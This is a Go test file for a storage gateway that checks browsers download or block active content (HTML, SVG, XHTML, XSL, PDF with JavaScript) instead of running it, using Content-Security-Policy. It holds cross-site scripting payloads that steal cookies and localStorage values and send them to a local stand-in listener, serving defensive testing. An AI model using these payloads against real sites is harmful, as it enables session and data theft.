package gate_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"s3gate/client"
)

// listener is a server that nobody should ask for anything.
type listener struct {
	*httptest.Server
	mu    sync.Mutex
	heard []string
}

func newListener(t *testing.T) *listener {
	l := &listener{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		defer l.mu.Unlock()
		l.heard = append(l.heard, r.URL.String())
	}))
	t.Cleanup(l.Close)
	return l
}

// take returns what was asked for, and forgets it.
func (l *listener) take() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	heard := l.heard
	l.heard = nil
	return heard
}

// hears waits for a request that begins so.
func (l *listener) hears(prefix string) (request string, ok bool) {
	for range 60 {
		l.mu.Lock()
		i := slices.IndexFunc(l.heard, func(s string) bool { return strings.HasPrefix(s, prefix) })
		if i >= 0 {
			request, ok = l.heard[i], true
		}
		l.mu.Unlock()
		if ok {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	return request, ok
}

// attack is a script that takes what the gate's origin keeps and tells a
// server. It stands in XML as it is.
const attack = `document.documentElement.setAttribute("ran", "yes");
let loot; try { loot = document.cookie + localStorage.getItem("canary"); } catch (e) { loot = e.name; }
new Image().src = "LISTENER/ran?" + encodeURIComponent(loot);`

// active are objects with a script in them, or that load something.
var active = []struct{ name, mediaType, body string }{
	{"page.html", "text/html", `<!doctype html><title>active</title><link rel="stylesheet" href="LISTENER/style"><script>` + attack + `</script>
<script src="LISTENER/script"></script><img src="LISTENER/image"><iframe src="LISTENER/frame"></iframe>
<video src="LISTENER/video"></video><form action="LISTENER/form"></form><meta http-equiv="refresh" content="1;url=LISTENER/refresh">`},
	{"image.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>` + attack + `</script><image href="LISTENER/image"/></svg>`},
	{"page.xhtml", "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>active</title></head><body><script>` + attack +
		`</script><img src="LISTENER/image"/></body></html>`},
	{"script.xml", "text/xml", `<data><script xmlns="http://www.w3.org/1999/xhtml">` + attack + `</script></data>`},
	{"styled.xml", "text/xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><data/>`},
	{"style.xsl", "text/xsl", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>` +
		attack + `</script></body></html></xsl:template></xsl:stylesheet>`},
	{"paper.pdf", "application/pdf", pdf("/OpenAction << /S /JavaScript /JS (this.submitForm\\('LISTENER/pdf'\\); app.launchURL\\('LISTENER/launch'\\);) >>")},
}

// storeActive puts the active objects into the folder active/.
func (w *world) storeActive(l *listener) {
	for _, object := range active {
		w.store("active/"+object.name, object.mediaType, []byte(strings.ReplaceAll(object.body, "LISTENER", l.URL)))
	}
}

// keepSecrets lets the origin of the page keep something to be stolen.
func (c *chrome) keepSecrets(link string) {
	c.open(link)
	c.script(`document.cookie = "canary=cookie;path=/"; localStorage.setItem("canary", "stored")`)
}

// A browser saves what could run, and shows nothing of it (C1).
func TestBrowserSavesActiveContent(t *testing.T) {
	c, l, w := newChrome(t), newListener(t), newEmbedded(t)
	w.storeActive(l)
	link := w.gate(nil).below("active/", nil).URL
	for _, object := range active {
		opened, err := chromedp.Call(c.ctx, cdppage.Navigate, cdppage.NavigateParams{URL: link + object.name})
		if err != nil || !opened.IsDownload {
			t.Fatalf("%s: %+v, %v; want a download", object.name, opened, err)
		}
		name, data := c.download()
		if name != object.name || !bytes.Equal(data, w.stored("active/"+object.name)) {
			t.Errorf("%s: saved %q with %d bytes", object.name, name, len(data))
		}
		if here := ask(c, chromedp.Location()); here != "about:blank" {
			t.Errorf("%s: the window shows %s", object.name, here)
		}
	}
	if heard := l.take(); len(heard) > 0 {
		t.Errorf("asked for: %q", heard)
	}
}

// What could run does not when it is shown inline: nothing in it runs, or
// reads what the gate's origin keeps, or loads anything (C1). Without the
// policy it would, all but the PDF: there the viewer stops it.
func TestBrowserRunsNothingInline(t *testing.T) {
	c, l, w := newChrome(t), newListener(t), newEmbedded(t)
	defer func() {
		if !c.complains() {
			t.Error("the browser has not complained of anything")
		}
	}()
	w.storeActive(l)
	link := w.gate(nil).below("active/", inline).URL
	open := stripped(t, link)
	c.keepSecrets(link + "missing")
	c.keepSecrets(open + "missing")
	for _, object := range active {
		l.take()
		c.run(chromedp.Navigate(link + object.name))
		time.Sleep(1500 * time.Millisecond) // longer than the refresh takes
		if heard := l.take(); len(heard) > 0 {
			t.Errorf("%s asked for %q", object.name, heard)
		}
		if object.mediaType == "application/pdf" {
			continue
		}
		if found := ask(c, chromedp.Evaluate[string](lookInside)); found != link+object.name+"  null SecurityError" {
			t.Errorf("%s: there is %q", object.name, found)
		}
		c.run(chromedp.Navigate(open + object.name))
		if heard, ok := l.hears("/ran"); !ok || heard != "/ran?canary%3Dcookiestored" {
			t.Errorf("%s without the policy: %q", object.name, heard)
		}
	}
}

func inline(r *client.MintRequest) { r.Response = &client.Response{Disposition: "inline"} }

// lookInside tells where a page is, whether its script ran, of which origin it
// is, and what it can read.
const lookInside = `[location.href, document.documentElement?.getAttribute("ran"), origin,
	(() => { try { return document.cookie + localStorage.getItem("canary") } catch (e) { return e.name } })()].join(" ")`

// Pictures, sound, text and PDF are shown in a browser under the policy that
// they come with.
func TestBrowserShowsInline(t *testing.T) {
	c, w := newChrome(t), newEmbedded(t)
	files := w.gate(nil).below("files/", inline).URL
	for _, tt := range []struct{ name, mediaType, body, look, want string }{
		{"a.png", "image/png", picture(), `String(document.images[0].naturalWidth)`, "7"},
		{"a.wav", "audio/wav", sound(), `(m => m.readyState + " " + m.duration.toFixed(1))(document.querySelector("video,audio"))`, "4 0.5"},
		{"a.txt", "text/plain; charset=utf-8", "plain <b>text</b> ü", "document.body.innerText", "plain <b>text</b> ü"},
		{"a.pdf", "application/pdf", pdf(""), `document.contentType`, "application/pdf"},
	} {
		w.store("files/"+tt.name, tt.mediaType, []byte(tt.body))
		c.run(chromedp.Navigate(files + tt.name))
		shown := func() bool { return ask(c, chromedp.Evaluate[string](tt.look)) == tt.want }
		if tt.mediaType == "application/pdf" {
			shown = c.showsRed // what the viewer does is not in the page
		}
		for range 50 {
			if shown() {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		if !shown() {
			t.Errorf("%s is not shown: %s", tt.name, ask(c, chromedp.Evaluate[string]("document.documentElement.outerHTML")))
		}
	}
	if len(c.done) > 0 {
		t.Error("something was downloaded")
	}
}

// showsRed reports whether a good part of the window is red.
func (c *chrome) showsRed() bool {
	m, err := png.Decode(bytes.NewReader(ask(c, chromedp.CaptureScreenshot())))
	if err != nil {
		c.t.Fatal(err)
	}
	red := 0
	for y := range m.Bounds().Dy() {
		for x := range m.Bounds().Dx() {
			if r, g, b, _ := m.At(x, y).RGBA(); r > 0xf000 && g < 0x1000 && b < 0x1000 {
				red++
			}
		}
	}
	return red > 10_000
}

// stripped is the link through a proxy that takes the policy away.
func stripped(t *testing.T, link string) string {
	u, err := url.Parse(link)
	if err != nil {
		t.Fatal(err)
	}
	proxy := httptest.NewServer(&httputil.ReverseProxy{
		Rewrite:        func(r *httputil.ProxyRequest) { r.SetURL(&url.URL{Scheme: u.Scheme, Host: u.Host}) },
		ModifyResponse: func(r *http.Response) error { r.Header.Del("Content-Security-Policy"); return nil },
	})
	t.Cleanup(proxy.Close)
	return proxy.URL + u.Path
}

// pdf is a document of one page that is all red; more goes into its catalog.
func pdf(more string) string {
	const paint = "1 0 0 rg 0 0 200 200 re f"
	var b strings.Builder
	b.WriteString("%PDF-1.7\n")
	var at []int
	for i, object := range []string{
		"<< /Type /Catalog /Pages 2 0 R " + more + " >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(paint), paint),
	} {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
	for _, offset := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(at)+1, start)
	return b.String()
}

// picture is a PNG.
func picture() string {
	m := image.NewRGBA(image.Rect(0, 0, 7, 5))
	m.Set(3, 3, color.RGBA{255, 0, 0, 255})
	var b bytes.Buffer
	if err := png.Encode(&b, m); err != nil {
		panic(err)
	}
	return b.String()
}

// sound is half a second of silence, as WAV.
func sound() string {
	const rate, samples = 8000, 4000
	var b bytes.Buffer
	b.WriteString("RIFF")
	binary.Write(&b, binary.LittleEndian, uint32(36+samples))
	b.WriteString("WAVEfmt ")
	binary.Write(&b, binary.LittleEndian, []uint32{16, 1 | 1<<16, rate, rate, 1 | 8<<16})
	b.WriteString("data")
	binary.Write(&b, binary.LittleEndian, uint32(samples))
	b.Write(bytes.Repeat([]byte{128}, samples))
	return b.String()
}
